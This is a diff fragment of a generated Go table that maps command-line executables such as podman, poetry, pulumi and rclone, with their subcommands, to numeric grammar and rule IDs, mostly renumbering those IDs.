-	{name: "podman", grammar: []uint32{0x20001, 0x140033}, generic: []uint32{0x140033}, subs: []genSub{{"attach", []uint32{0x20016, 0x14004f}}, {"build", []uint32{0x20016, 0x14004f}}, {"builder", []uint32{0x20005, 0x20015, 0x140041, 0x140050}}, {"buildx", []uint32{0x20005, 0x20015, 0x20017, 0x140041, 0x140050}}, {"commit", []uint32{0x20016}}, {"compose", []uint32{0x2000b, 0x2000c, 0x20015, 0x20017, 0x140046, 0x140047, 0x14004a, 0x140051, 0x140054}}, {"config", []uint32{0x20009, 0x20015, 0x14003a, 0x140041}}, {"container", []uint32{0x20005, 0x20006, 0x2000a, 0x2000f, 0x20010, 0x20011, 0x20012, 0x20015, 0x20017, 0x140036, 0x14003a, 0x14003c, 0x14003e, 0x140050, 0x140058}}, {"context", []uint32{0x20009, 0x20015, 0x14003a, 0x140041, 0x140042}}, {"cp", []uint32{0x20016, 0x140057}}, {"create", []uint32{0x2000f, 0x20010, 0x20011, 0x20012, 0x20016, 0x14004e}}, {"diff", []uint32{0x20013, 0x14003d}}, {"events", []uint32{0x20013, 0x14003d}}, {"exec", []uint32{0x2000f, 0x14004f}}, {"export", []uint32{0x20016, 0x140059}}, {"help", []uint32{0x20013}}, {"history", []uint32{0x20013, 0x14003d}}, {"image", []uint32{0x20005, 0x20008, 0x20015, 0x20017, 0x140038, 0x14003a, 0x14003f, 0x140050, 0x140054}}, {"images", []uint32{0x20013, 0x140037}}, {"import", []uint32{0x20016}}, {"info", []uint32{0x20013, 0x14003d}}, {"inspect", []uint32{0x20013, 0x140039}}, {"kill", []uint32{0x2000a}}, {"load", []uint32{0x20016, 0x14005a}}, {"login", []uint32{0x20013, 0x140056}}, {"logout", []uint32{0x140056}}, {"logs", []uint32{0x20013, 0x14003b}}, {"machine", []uint32{0x20009, 0x20015, 0x14003a, 0x140041}}, {"manifest", []uint32{0x20009, 0x20015, 0x140045}}, {"network", []uint32{0x20005, 0x20009, 0x20015, 0x20017, 0x14003a, 0x140041}}, {"node", []uint32{0x20009, 0x20015, 0x14003a, 0x140041}}, {"pause", []uint32{0x2000a}}, {"plugin", []uint32{0x20009, 0x20015, 0x14003a, 0x140041}}, {"pod", []uint32{0x20005, 0x20015, 0x14003a, 0x14003c, 0x140041}}, {"port", []uint32{0x20013, 0x14003d}}, {"ps", []uint32{0x20013, 0x140035}}, {"pull", []uint32{0x20016, 0x140053}}, {"push", []uint32{0x20016, 0x140053}}, {"rename", []uint32{0x20016}}, {"restart", []uint32{0x20016, 0x14004f}}, {"rm", []uint32{0x20006}}, {"rmi", []uint32{0x20007}}, {"run", []uint32{0x2000f, 0x20010, 0x20011, 0x20012, 0x14004e}}, {"save", []uint32{0x20016, 0x140059}}, {"search", []uint32{0x20013, 0x140044}}, {"secret", []uint32{0x20009, 0x20015, 0x140041, 0x140043}}, {"service", []uint32{0x20009, 0x20015, 0x14003a, 0x140041}}, {"stack", []uint32{0x20009, 0x20015, 0x140041}}, {"start", []uint32{0x20016, 0x14004f}}, {"stats", []uint32{0x20013, 0x14003d}}, {"stop", []uint32{0x2000a}}, {"swarm", []uint32{0x20009}}, {"system", []uint32{0x20004, 0x20014, 0x140040}}, {"tag", []uint32{0x20016}}, {"top", []uint32{0x20013, 0x14003d}}, {"unpause", []uint32{0x20016}}, {"update", []uint32{0x20016}}, {"version", []uint32{0x20013, 0x14003d}}, {"volume", []uint32{0x20003, 0x20015, 0x20017, 0x14003a, 0x140041}}, {"wait", []uint32{0x20016}}}, ruleKnown: true},
-	{name: "podman-compose", grammar: []uint32{0x14004d}, generic: []uint32{0x14004d}, subs: []genSub{{"build", []uint32{0x20019, 0x140052}}, {"config", []uint32{0x20018, 0x14004b}}, {"convert", []uint32{0x14004b}}, {"create", []uint32{0x20019, 0x140052}}, {"down", []uint32{0x2000d, 0x2000e}}, {"exec", []uint32{0x140052}}, {"images", []uint32{0x20018, 0x140048}}, {"kill", []uint32{0x2000e}}, {"logs", []uint32{0x20018, 0x140049}}, {"ls", []uint32{0x20018, 0x140048}}, {"port", []uint32{0x20018, 0x140048}}, {"ps", []uint32{0x20018, 0x140048}}, {"pull", []uint32{0x20019, 0x140055}}, {"push", []uint32{0x20019, 0x140055}}, {"restart", []uint32{0x20019, 0x140052}}, {"rm", []uint32{0x2000d, 0x2000e}}, {"run", []uint32{0x140052}}, {"start", []uint32{0x20019, 0x140052}}, {"stop", []uint32{0x2000e}}, {"top", []uint32{0x20018, 0x140048}}, {"up", []uint32{0x20019, 0x140052}}, {"version", []uint32{0x20018, 0x140048}}}, ruleKnown: true},
-	{name: "poetry", grammar: []uint32{0x1f003c}, generic: []uint32{0xa0005, 0x1f003c}, subs: []genSub{{"--version", []uint32{0xa0019}}, {"about", []uint32{0x1f003d}}, {"add", []uint32{0xa001a, 0x1f003f}}, {"build", []uint32{0xa0019, 0x1f003f}}, {"cache", []uint32{0xa0019, 0x1f003e, 0x1f003f}}, {"check", []uint32{0xa0019, 0x1f003d}}, {"config", []uint32{0xa0019, 0x1f003e, 0x1f003f}}, {"create", []uint32{0xa001a}}, {"debug", []uint32{0xa0019, 0x1f003f}}, {"download", []uint32{0xa001a}}, {"env", []uint32{0xa0019, 0x1f003e, 0x1f003f}}, {"export", []uint32{0xa0019, 0x1f003f}}, {"freeze", []uint32{0xa0019}}, {"help", []uint32{0xa0019, 0x1f003d}}, {"index", []uint32{0xa0019}}, {"info", []uint32{0xa0019}}, {"init", []uint32{0xa001a, 0x1f003f}}, {"inspect", []uint32{0xa0019}}, {"install", []uint32{0xa001a, 0x1f003f}}, {"list", []uint32{0xa0019, 0x1f003d}}, {"lock", []uint32{0xa0019, 0x1f003f}}, {"new", []uint32{0xa001a, 0x1f003f}}, {"pip", []uint32{0xa001a}}, {"publish", []uint32{0x1f003f}}, {"python", []uint32{0x1f003f}}, {"remove", []uint32{0xa001a, 0x1f003f}}, {"run", []uint32{0xa0019, 0x1f003f}}, {"search", []uint32{0xa0019, 0x1f003f}}, {"self", []uint32{0x1f003f}}, {"shell", []uint32{0xa0019, 0x1f003f}}, {"show", []uint32{0xa0019, 0x1f003d}}, {"source", []uint32{0x1f003e, 0x1f003f}}, {"sync", []uint32{0xa0019, 0x1f003f}}, {"tree", []uint32{0xa0019}}, {"uninstall", []uint32{0xa001a}}, {"update", []uint32{0xa001a, 0x1f003f}}, {"upgrade", []uint32{0xa001a}}, {"venv", []uint32{0xa0019}}, {"version", []uint32{0xa0019, 0x1f003f}}, {"wheel", []uint32{0xa001a}}}, ruleKnown: true},
+	{name: "podman", grammar: []uint32{0x20001, 0x140035}, generic: []uint32{0x140035}, subs: []genSub{{"attach", []uint32{0x20016, 0x140051}}, {"build", []uint32{0x20016, 0x140051}}, {"builder", []uint32{0x20005, 0x20015, 0x140043, 0x140052}}, {"buildx", []uint32{0x20005, 0x20015, 0x20017, 0x140043, 0x140052}}, {"commit", []uint32{0x20016}}, {"compose", []uint32{0x2000b, 0x2000c, 0x20015, 0x20017, 0x140048, 0x140049, 0x14004c, 0x140053, 0x140056}}, {"config", []uint32{0x20009, 0x20015, 0x14003c, 0x140043}}, {"container", []uint32{0x20005, 0x20006, 0x2000a, 0x2000f, 0x20010, 0x20011, 0x20012, 0x20015, 0x20017, 0x140038, 0x14003c, 0x14003e, 0x140040, 0x140052, 0x14005a}}, {"context", []uint32{0x20009, 0x20015, 0x14003c, 0x140043, 0x140044}}, {"cp", []uint32{0x20016, 0x140059}}, {"create", []uint32{0x2000f, 0x20010, 0x20011, 0x20012, 0x20016, 0x140050}}, {"diff", []uint32{0x20013, 0x14003f}}, {"events", []uint32{0x20013, 0x14003f}}, {"exec", []uint32{0x2000f, 0x140051}}, {"export", []uint32{0x20016, 0x14005b}}, {"help", []uint32{0x20013}}, {"history", []uint32{0x20013, 0x14003f}}, {"image", []uint32{0x20005, 0x20008, 0x20015, 0x20017, 0x14003a, 0x14003c, 0x140041, 0x140052, 0x140056}}, {"images", []uint32{0x20013, 0x140039}}, {"import", []uint32{0x20016}}, {"info", []uint32{0x20013, 0x14003f}}, {"inspect", []uint32{0x20013, 0x14003b}}, {"kill", []uint32{0x2000a}}, {"load", []uint32{0x20016, 0x14005c}}, {"login", []uint32{0x20013, 0x140058}}, {"logout", []uint32{0x140058}}, {"logs", []uint32{0x20013, 0x14003d}}, {"machine", []uint32{0x20009, 0x20015, 0x14003c, 0x140043}}, {"manifest", []uint32{0x20009, 0x20015, 0x140047}}, {"network", []uint32{0x20005, 0x20009, 0x20015, 0x20017, 0x14003c, 0x140043}}, {"node", []uint32{0x20009, 0x20015, 0x14003c, 0x140043}}, {"pause", []uint32{0x2000a}}, {"plugin", []uint32{0x20009, 0x20015, 0x14003c, 0x140043}}, {"pod", []uint32{0x20005, 0x20015, 0x14003c, 0x14003e, 0x140043}}, {"port", []uint32{0x20013, 0x14003f}}, {"ps", []uint32{0x20013, 0x140037}}, {"pull", []uint32{0x20016, 0x140055}}, {"push", []uint32{0x20016, 0x140055}}, {"rename", []uint32{0x20016}}, {"restart", []uint32{0x20016, 0x140051}}, {"rm", []uint32{0x20006}}, {"rmi", []uint32{0x20007}}, {"run", []uint32{0x2000f, 0x20010, 0x20011, 0x20012, 0x140050}}, {"save", []uint32{0x20016, 0x14005b}}, {"search", []uint32{0x20013, 0x140046}}, {"secret", []uint32{0x20009, 0x20015, 0x140043, 0x140045}}, {"service", []uint32{0x20009, 0x20015, 0x14003c, 0x140043}}, {"stack", []uint32{0x20009, 0x20015, 0x140043}}, {"start", []uint32{0x20016, 0x140051}}, {"stats", []uint32{0x20013, 0x14003f}}, {"stop", []uint32{0x2000a}}, {"swarm", []uint32{0x20009}}, {"system", []uint32{0x20004, 0x20014, 0x140042}}, {"tag", []uint32{0x20016}}, {"top", []uint32{0x20013, 0x14003f}}, {"unpause", []uint32{0x20016}}, {"update", []uint32{0x20016}}, {"version", []uint32{0x20013, 0x14003f}}, {"volume", []uint32{0x20003, 0x20015, 0x20017, 0x14003c, 0x140043}}, {"wait", []uint32{0x20016}}}, ruleKnown: true},
+	{name: "podman-compose", grammar: []uint32{0x14004f}, generic: []uint32{0x14004f}, subs: []genSub{{"build", []uint32{0x20019, 0x140054}}, {"config", []uint32{0x20018, 0x14004d}}, {"convert", []uint32{0x14004d}}, {"create", []uint32{0x20019, 0x140054}}, {"down", []uint32{0x2000d, 0x2000e}}, {"exec", []uint32{0x140054}}, {"images", []uint32{0x20018, 0x14004a}}, {"kill", []uint32{0x2000e}}, {"logs", []uint32{0x20018, 0x14004b}}, {"ls", []uint32{0x20018, 0x14004a}}, {"port", []uint32{0x20018, 0x14004a}}, {"ps", []uint32{0x20018, 0x14004a}}, {"pull", []uint32{0x20019, 0x140057}}, {"push", []uint32{0x20019, 0x140057}}, {"restart", []uint32{0x20019, 0x140054}}, {"rm", []uint32{0x2000d, 0x2000e}}, {"run", []uint32{0x140054}}, {"start", []uint32{0x20019, 0x140054}}, {"stop", []uint32{0x2000e}}, {"top", []uint32{0x20018, 0x14004a}}, {"up", []uint32{0x20019, 0x140054}}, {"version", []uint32{0x20018, 0x14004a}}}, ruleKnown: true},
+	{name: "poetry", grammar: []uint32{0x1f003e}, generic: []uint32{0xa0005, 0x1f003e}, subs: []genSub{{"--version", []uint32{0xa0019}}, {"about", []uint32{0x1f003f}}, {"add", []uint32{0xa001a, 0x1f0041}}, {"build", []uint32{0xa0019, 0x1f0041}}, {"cache", []uint32{0xa0019, 0x1f0040, 0x1f0041}}, {"check", []uint32{0xa0019, 0x1f003f}}, {"config", []uint32{0xa0019, 0x1f0040, 0x1f0041}}, {"create", []uint32{0xa001a}}, {"debug", []uint32{0xa0019, 0x1f0041}}, {"download", []uint32{0xa001a}}, {"env", []uint32{0xa0019, 0x1f0040, 0x1f0041}}, {"export", []uint32{0xa0019, 0x1f0041}}, {"freeze", []uint32{0xa0019}}, {"help", []uint32{0xa0019, 0x1f003f}}, {"index", []uint32{0xa0019}}, {"info", []uint32{0xa0019}}, {"init", []uint32{0xa001a, 0x1f0041}}, {"inspect", []uint32{0xa0019}}, {"install", []uint32{0xa001a, 0x1f0041}}, {"list", []uint32{0xa0019, 0x1f003f}}, {"lock", []uint32{0xa0019, 0x1f0041}}, {"new", []uint32{0xa001a, 0x1f0041}}, {"pip", []uint32{0xa001a}}, {"publish", []uint32{0x1f0041}}, {"python", []uint32{0x1f0041}}, {"remove", []uint32{0xa001a, 0x1f0041}}, {"run", []uint32{0xa0019, 0x1f0041}}, {"search", []uint32{0xa0019, 0x1f0041}}, {"self", []uint32{0x1f0041}}, {"shell", []uint32{0xa0019, 0x1f0041}}, {"show", []uint32{0xa0019, 0x1f003f}}, {"source", []uint32{0x1f0040, 0x1f0041}}, {"sync", []uint32{0xa0019, 0x1f0041}}, {"tree", []uint32{0xa0019}}, {"uninstall", []uint32{0xa001a}}, {"update", []uint32{0xa001a, 0x1f0041}}, {"upgrade", []uint32{0xa001a}}, {"venv", []uint32{0xa0019}}, {"version", []uint32{0xa0019, 0x1f0041}}, {"wheel", []uint32{0xa001a}}}, ruleKnown: true},
 	{name: "popd", grammar: []uint32{0x120004}, generic: []uint32{0xd0016, 0x120004}, subs: nil, ruleKnown: true},
-	{name: "port", grammar: []uint32{0x1f0016}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f0016}, subs: []genSub{{"activate", []uint32{0x1f0018}}, {"archive", []uint32{0x1f0018}}, {"build", []uint32{0x1f0018}}, {"cat", []uint32{0x1f0017}}, {"checksum", []uint32{0x1f0018}}, {"clean", []uint32{0x1f0018}}, {"configure", []uint32{0x1f0018}}, {"contents", []uint32{0x1f0017}}, {"deactivate", []uint32{0x1f0018}}, {"dependents", []uint32{0x1f0017}}, {"deps", []uint32{0x1f0017}}, {"destroot", []uint32{0x1f0018}}, {"diagnose", []uint32{0x1f0018}}, {"dir", []uint32{0x1f0017}}, {"distcheck", []uint32{0x1f0018}}, {"dmg", []uint32{0x1f0018}}, {"echo", []uint32{0x1f0017}}, {"edit", []uint32{0x1f0018}}, {"extract", []uint32{0x1f0018}}, {"fetch", []uint32{0x1f0018}}, {"file", []uint32{0x1f0017}}, {"gohome", []uint32{0x1f0018}}, {"info", []uint32{0x1f0017}}, {"install", []uint32{0x1f0018}}, {"installed", []uint32{0x1f0017}}, {"lint", []uint32{0x1f0018}}, {"list", []uint32{0x1f0017}}, {"livecheck", []uint32{0x1f0018}}, {"load", []uint32{0x1f0018}}, {"location", []uint32{0x1f0017}}, {"logfile", []uint32{0x1f0017}}, {"migrate", []uint32{0x1f0018}}, {"mirror", []uint32{0x1f0018}}, {"mpkg", []uint32{0x1f0018}}, {"notes", []uint32{0x1f0017}}, {"outdated", []uint32{0x1f0017}}, {"patch", []uint32{0x1f0018}}, {"pkg", []uint32{0x1f0018}}, {"platform", []uint32{0x1f0017}}, {"provides", []uint32{0x1f0017}}, {"rdependents", []uint32{0x1f0017}}, {"rdeps", []uint32{0x1f0017}}, {"reclaim", []uint32{0x1f0018}}, {"reload", []uint32{0x1f0018}}, {"search", []uint32{0x1f0017}}, {"select", []uint32{0x1f0018}}, {"selfupdate", []uint32{0x1f0018}}, {"setrequested", []uint32{0x1f0018}}, {"sync", []uint32{0x1f0018}}, {"test", []uint32{0x1f0018}}, {"uninstall", []uint32{0x1f0018}}, {"unload", []uint32{0x1f0018}}, {"unsetrequested", []uint32{0x1f0018}}, {"upgrade", []uint32{0x1f0018}}, {"url", []uint32{0x1f0017}}, {"usage", []uint32{0x1f0017}}, {"variants", []uint32{0x1f0017}}, {"version", []uint32{0x1f0017}}, {"work", []uint32{0x1f0017}}}, ruleKnown: true},
+	{name: "port", grammar: []uint32{0x1f0017}, generic: []uint32{0xa000d, 0xa000e, 0xa001c, 0x1f0017}, subs: []genSub{{"activate", []uint32{0x1f0019}}, {"archive", []uint32{0x1f0019}}, {"build", []uint32{0x1f0019}}, {"cat", []uint32{0x1f0018}}, {"checksum", []uint32{0x1f0019}}, {"clean", []uint32{0x1f0019}}, {"configure", []uint32{0x1f0019}}, {"contents", []uint32{0x1f0018}}, {"deactivate", []uint32{0x1f0019}}, {"dependents", []uint32{0x1f0018}}, {"deps", []uint32{0x1f0018}}, {"destroot", []uint32{0x1f0019}}, {"diagnose", []uint32{0x1f0019}}, {"dir", []uint32{0x1f0018}}, {"distcheck", []uint32{0x1f0019}}, {"dmg", []uint32{0x1f0019}}, {"echo", []uint32{0x1f0018}}, {"edit", []uint32{0x1f0019}}, {"extract", []uint32{0x1f0019}}, {"fetch", []uint32{0x1f0019}}, {"file", []uint32{0x1f0018}}, {"gohome", []uint32{0x1f0019}}, {"info", []uint32{0x1f0018}}, {"install", []uint32{0x1f0019}}, {"installed", []uint32{0x1f0018}}, {"lint", []uint32{0x1f0019}}, {"list", []uint32{0x1f0018}}, {"livecheck", []uint32{0x1f0019}}, {"load", []uint32{0x1f0019}}, {"location", []uint32{0x1f0018}}, {"logfile", []uint32{0x1f0018}}, {"migrate", []uint32{0x1f0019}}, {"mirror", []uint32{0x1f0019}}, {"mpkg", []uint32{0x1f0019}}, {"notes", []uint32{0x1f0018}}, {"outdated", []uint32{0x1f0018}}, {"patch", []uint32{0x1f0019}}, {"pkg", []uint32{0x1f0019}}, {"platform", []uint32{0x1f0018}}, {"provides", []uint32{0x1f0018}}, {"rdependents", []uint32{0x1f0018}}, {"rdeps", []uint32{0x1f0018}}, {"reclaim", []uint32{0x1f0019}}, {"reload", []uint32{0x1f0019}}, {"search", []uint32{0x1f0018}}, {"select", []uint32{0x1f0019}}, {"selfupdate", []uint32{0x1f0019}}, {"setrequested", []uint32{0x1f0019}}, {"sync", []uint32{0x1f0019}}, {"test", []uint32{0x1f0019}}, {"uninstall", []uint32{0x1f0019}}, {"unload", []uint32{0x1f0019}}, {"unsetrequested", []uint32{0x1f0019}}, {"upgrade", []uint32{0x1f0019}}, {"url", []uint32{0x1f0018}}, {"usage", []uint32{0x1f0018}}, {"variants", []uint32{0x1f0018}}, {"version", []uint32{0x1f0018}}, {"work", []uint32{0x1f0018}}}, ruleKnown: true},
 	{name: "posh", grammar: []uint32{0x1d003a}, generic: []uint32{0x1d003a}, subs: nil, ruleKnown: false},
 	{name: "poweroff", grammar: nil, generic: []uint32{0x100015}, subs: nil, ruleKnown: true},
 	{name: "powershell", grammar: nil, generic: []uint32{0xb0009, 0xb000a}, subs: nil, ruleKnown: true},
@@ -2597,7 +2608,7 @@ var generatedExeIndex = []genExe{
 	{name: "psftp", grammar: []uint32{0x1d0007, 0x1d003f}, generic: []uint32{0x1d003f}, subs: nil, ruleKnown: false},
 	{name: "psql", grammar: []uint32{0x30000, 0x170000}, generic: []uint32{0x3000f, 0x30010, 0x30011, 0x30012, 0x30013, 0x3001f, 0x170000}, subs: nil, ruleKnown: true},
 	{name: "ptx", grammar: []uint32{0x15001f}, generic: []uint32{0x15001f}, subs: nil, ruleKnown: false},
-	{name: "pulumi", grammar: []uint32{0x80003, 0x130088}, generic: []uint32{0x130088}, subs: []genSub{{"about", []uint32{0x80015, 0x130089}}, {"ai", []uint32{0x13008e}}, {"cancel", []uint32{0x13008e}}, {"config", []uint32{0x80015, 0x13008a, 0x13008c, 0x13008d}}, {"convert", []uint32{0x130089}}, {"destroy", []uint32{0x8000c, 0x130089}}, {"dn", []uint32{0x130089}}, {"down", []uint32{0x8000c, 0x130089}}, {"env", []uint32{0x13008c, 0x13008e}}, {"import", []uint32{0x8000d, 0x130089}}, {"install", []uint32{0x130089}}, {"login", []uint32{0x13008e}}, {"logout", []uint32{0x13008e}}, {"logs", []uint32{0x80015, 0x13008e}}, {"new", []uint32{0x130089}}, {"org", []uint32{0x80015, 0x13008e}}, {"package", []uint32{0x13008e}}, {"plugin", []uint32{0x80015, 0x13008e}}, {"policy", []uint32{0x13008e}}, {"pre", []uint32{0x130089}}, {"preview", []uint32{0x80015, 0x130089}}, {"refresh", []uint32{0x8000d, 0x130089}}, {"schema", []uint32{0x80015, 0x13008e}}, {"stack", []uint32{0x8000e, 0x80015, 0x13008a, 0x13008b, 0x13008d}}, {"state", []uint32{0x8000f}}, {"up", []uint32{0x8000d, 0x130089}}, {"update", []uint32{0x8000d, 0x130089}}, {"version", []uint32{0x80015, 0x13008f}}, {"watch", []uint32{0x130089}}, {"whoami", []uint32{0x80015, 0x13008e}}}, ruleKnown: true},
+	{name: "pulumi", grammar: []uint32{0x80003, 0x13008e}, generic: []uint32{0x13008e}, subs: []genSub{{"about", []uint32{0x80015, 0x13008f}}, {"ai", []uint32{0x130094}}, {"cancel", []uint32{0x130094}}, {"config", []uint32{0x80015, 0x130090, 0x130092, 0x130093}}, {"convert", []uint32{0x13008f}}, {"destroy", []uint32{0x8000c, 0x13008f}}, {"dn", []uint32{0x13008f}}, {"down", []uint32{0x8000c, 0x13008f}}, {"env", []uint32{0x130092, 0x130094}}, {"import", []uint32{0x8000d, 0x13008f}}, {"install", []uint32{0x13008f}}, {"login", []uint32{0x130094}}, {"logout", []uint32{0x130094}}, {"logs", []uint32{0x80015, 0x130094}}, {"new", []uint32{0x13008f}}, {"org", []uint32{0x80015, 0x130094}}, {"package", []uint32{0x130094}}, {"plugin", []uint32{0x80015, 0x130094}}, {"policy", []uint32{0x130094}}, {"pre", []uint32{0x13008f}}, {"preview", []uint32{0x80015, 0x13008f}}, {"refresh", []uint32{0x8000d, 0x13008f}}, {"schema", []uint32{0x80015, 0x130094}}, {"stack", []uint32{0x8000e, 0x80015, 0x130090, 0x130091, 0x130093}}, {"state", []uint32{0x8000f}}, {"up", []uint32{0x8000d, 0x13008f}}, {"update", []uint32{0x8000d, 0x13008f}}, {"version", []uint32{0x80015, 0x130095}}, {"watch", []uint32{0x13008f}}, {"whoami", []uint32{0x80015, 0x130094}}}, ruleKnown: true},
 	{name: "puppet", grammar: []uint32{0x1d0040}, generic: []uint32{0x1d0040}, subs: []genSub{{"agent", []uint32{0x1d0042}}, {"apply", []uint32{0x1d0041}}, {"device", []uint32{0x1d0042}}, {"filebucket", []uint32{0x1d0042}}, {"lookup", []uint32{0x1d0042}}, {"module", []uint32{0x1d0042}}, {"plugin", []uint32{0x1d0042}}, {"resource", []uint32{0x1d0042}}, {"script", []uint32{0x1d0042}}, {"ssl", []uint32{0x1d0042}}}, ruleKnown: false},
 	{name: "pushd", grammar: []uint32{0x120003}, generic: []uint32{0xd0016, 0x120003}, subs: nil, ruleKnown: true},
 	{name: "pvremove", grammar: nil, generic: []uint32{0x100013}, subs: nil, ruleKnown: true},
@@ -2621,7 +2632,7 @@ var generatedExeIndex = []genExe{
 	{name: "ranger", grammar: []uint32{0x1d0047}, generic: []uint32{0x1d0047}, subs: nil, ruleKnown: false},
 	{name: "rbenv", grammar: []uint32{0x24005f}, generic: []uint32{0xd0029, 0x24005f}, subs: []genSub{{"--version", []uint32{0x240060}}, {"activate", []uint32{0x240063}}, {"alias", []uint32{0x240063}}, {"backends", []uint32{0x240063}}, {"broadcast", []uint32{0x240063}}, {"bun", []uint32{0x240063}}, {"cache", []uint32{0x240063}}, {"cfg", []uint32{0x240063}}, {"commands", []uint32{0x240060}}, {"completion", []uint32{0x240060}}, {"completions", []uint32{0x240060}}, {"config", []uint32{0x240063}}, {"current", []uint32{0x240060}}, {"d", []uint32{0x240063}}, {"deactivate", []uint32{0x240063}}, {"default", []uint32{0x240063}}, {"deno", []uint32{0x240063}}, {"doctor", []uint32{0x240060}}, {"dr", []uint32{0x240060}}, {"edit", []uint32{0x240063}}, {"exec", []uint32{0x240063}}, {"flush", []uint32{0x240063}}, {"gem", []uint32{0x240063}}, {"generate", []uint32{0x240063}}, {"global", []uint32{0x240063}}, {"help", []uint32{0x240060}}, {"home", []uint32{0x240060}}, {"hook-env", []uint32{0x240063}}, {"i", []uint32{0x240063}}, {"implode", []uint32{0x240063}}, {"info", []uint32{0x240060}}, {"install", []uint32{0x240063}}, {"install-latest-npm", []uint32{0x240063}}, {"latest", []uint32{0x240063}}, {"link", []uint32{0x240063}}, {"list", []uint32{0x240060}}, {"local", []uint32{0x240063}}, {"lock", []uint32{0x240063}}, {"ls", []uint32{0x240060}}, {"ls-remote", []uint32{0x240060}}, {"migrate", []uint32{0x240063}}, {"node", []uint32{0x240063}}, {"offline", []uint32{0x240063}}, {"outdated", []uint32{0x240063}}, {"pip", []uint32{0x240063}}, {"plugin", []uint32{0x240063}}, {"plugins", []uint32{0x240063}}, {"prefix", []uint32{0x240060}}, {"prune", []uint32{0x240063}}, {"r", []uint32{0x240063}}, {"registry", []uint32{0x240063}}, {"rehash", []uint32{0x240063}}, {"reinstall-packages", []uint32{0x240063}}, {"remove", []uint32{0x240063}}, {"reshim", []uint32{0x240063}}, {"rm", []uint32{0x240063}}, {"root", []uint32{0x240060}}, {"run", []uint32{0x240063}}, {"search", []uint32{0x240063}}, {"self-update", []uint32{0x240063}}, {"selfupdate", []uint32{0x240063}}, {"settings", []uint32{0x240060}}, {"shell", []uint32{0x240063}}, {"shims", []uint32{0x240060}}, {"sync", []uint32{0x240063}}, {"task", []uint32{0x240063}}, {"tasks", []uint32{0x240063}}, {"tool", []uint32{0x240063}}, {"tool-alias", []uint32{0x240063}}, {"trust", []uint32{0x240063}}, {"u", []uint32{0x240063}}, {"unalias", []uint32{0x240063}}, {"uninstall", []uint32{0x240063}}, {"unset", []uint32{0x240063}}, {"unuse", []uint32{0x240063}}, {"up", []uint32{0x240063}}, {"update", []uint32{0x240063}}, {"upgrade", []uint32{0x240063}}, {"use", []uint32{0x240063}}, {"version", []uint32{0x240060}}, {"versions", []uint32{0x240060}}, {"virtualenv", []uint32{0x240063}}, {"virtualenv-delete", []uint32{0x240063}}, {"virtualenvs", []uint32{0x240063}}, {"watch", []uint32{0x240063}}, {"whence", []uint32{0x240060}}, {"where", []uint32{0x240060}}, {"which", []uint32{0x240060}}, {"x", []uint32{0x240063}}}, ruleKnown: true},
 	{name: "rc", grammar: []uint32{0x1d003c}, generic: []uint32{0x1d003c}, subs: nil, ruleKnown: false},
-	{name: "rclone", grammar: []uint32{0x130047}, generic: []uint32{0x10011, 0x1001a, 0x130047}, subs: []genSub{{"about", []uint32{0x130048}}, {"authorize", []uint32{0x13004c}}, {"bisync", []uint32{0x13004d}}, {"cat", []uint32{0x130048}}, {"check", []uint32{0x130048}}, {"config", []uint32{0x13004a, 0x13004b}}, {"copy", []uint32{0x13004d}}, {"copyto", []uint32{0x13004d}}, {"copyurl", []uint32{0x13004d}}, {"cryptcheck", []uint32{0x130048}}, {"hashsum", []uint32{0x130048}}, {"listremotes", []uint32{0x130049}}, {"ls", []uint32{0x130048}}, {"lsd", []uint32{0x130048}}, {"lsf", []uint32{0x130048}}, {"lsjson", []uint32{0x130048}}, {"lsl", []uint32{0x130048}}, {"md5sum", []uint32{0x130048}}, {"move", []uint32{0x13004e}}, {"moveto", []uint32{0x13004e}}, {"sha1sum", []uint32{0x130048}}, {"size", []uint32{0x130048}}, {"sync", []uint32{0x13004d}}, {"tree", []uint32{0x130048}}, {"version", []uint32{0x130049}}}, ruleKnown: true},
+	{name: "rclone", grammar: []uint32{0x13004c}, generic: []uint32{0x10011, 0x1001a, 0x13004c}, subs: []genSub{{"about", []uint32{0x13004d}}, {"authorize", []uint32{0x130051}}, {"bisync", []uint32{0x130052}}, {"cat", []uint32{0x13004d}}, {"check", []uint32{0x13004d}}, {"config", []uint32{0x13004f, 0x130050}}, {"copy", []uint32{0x130052}}, {"copyto", []uint32{0x130052}}, {"copyurl", []uint32{0x130052}}, {"cryptcheck", []uint32{0x13004d}}, {"hashsum", []uint32{0x13004d}}, {"listremotes", []uint32{0x13004e}}, {"ls", []uint32{0x13004d}}, {"lsd", []uint32{0x13004d}}, {"lsf", []uint32{0x13004d}}, {"lsjson", []uint32{0x13004d}}, {"lsl", []uint32{0x13004d}}, {"md5sum", []uint32{0x13004d}}, {"move", []uint32{0x130053}}, {"moveto", []uint32{0x130053}}, {"sha1sum", []uint32{0x13004d}}, {"size", []uint32{0x13004d}}, {"sync", []uint32{0x130052}}, {"tree", []uint32{0x13004d}}, {"version", []uint32{0x13004e}}}, ruleKnown: true},
 	{name: "rd", grammar: nil, generic: []uint32{0x4001a}, subs: nil, ruleKnown: true},
 	{name: "read", grammar: []uint32{0x120011}, generic: []uint32{0xd0016, 0x120011}, subs: nil, ruleKnown: true},
 	{name: "readelf", grammar: []uint32{0x240048}, generic: []uint32{0xd0016, 0x240048}, subs: nil, ruleKnown: true},
@@ -2647,7 +2658,7 @@ var generatedExeIndex = []genExe{
 	{name: "rmdir", grammar: []uint32{0x150048}, generic: []uint32{0x40017, 0x40019, 0x40031, 0x40036, 0x150048}, subs: nil, ruleKnown: true},
 	{name: "rmmod", grammar: nil, generic: []uint32{0x10002e}, subs: nil, ruleKnown: true},
 	{name: "route", grammar: []uint32{0x22004c}, generic: []uint32{0xd0020, 0x22004c}, subs: nil, ruleKnown: true},
-	{name: "rpm", grammar: []uint32{0x1f0004}, generic: []uint32{0x1f0004}, subs: nil, ruleKnown: false},
+	{name: "rpm", grammar: []uint32{0x1f0005}, generic: []uint32{0x1f0005}, subs: nil, ruleKnown: false},
 	{name: "rpmdb", grammar: []uint32{0x1d0050}, generic: []uint32{0x1d0050}, subs: nil, ruleKnown: false},
 	{name: "rpmquery", grammar: []uint32{0x1d004e}, generic: []uint32{0x1d004e}, subs: nil, ruleKnown: false},
 	{name: "rpmverify", grammar: []uint32{0x1d004f}, generic: []uint32{0x1d004f}, subs: nil, ruleKnown: false},
@@ -2664,7 +2675,7 @@ var generatedExeIndex = []genExe{
 	{name: "rustfmt", grammar: []uint32{0x240027}, generic: []uint32{0xd0021, 0xd0022, 0x240027}, subs: nil, ruleKnown: true},
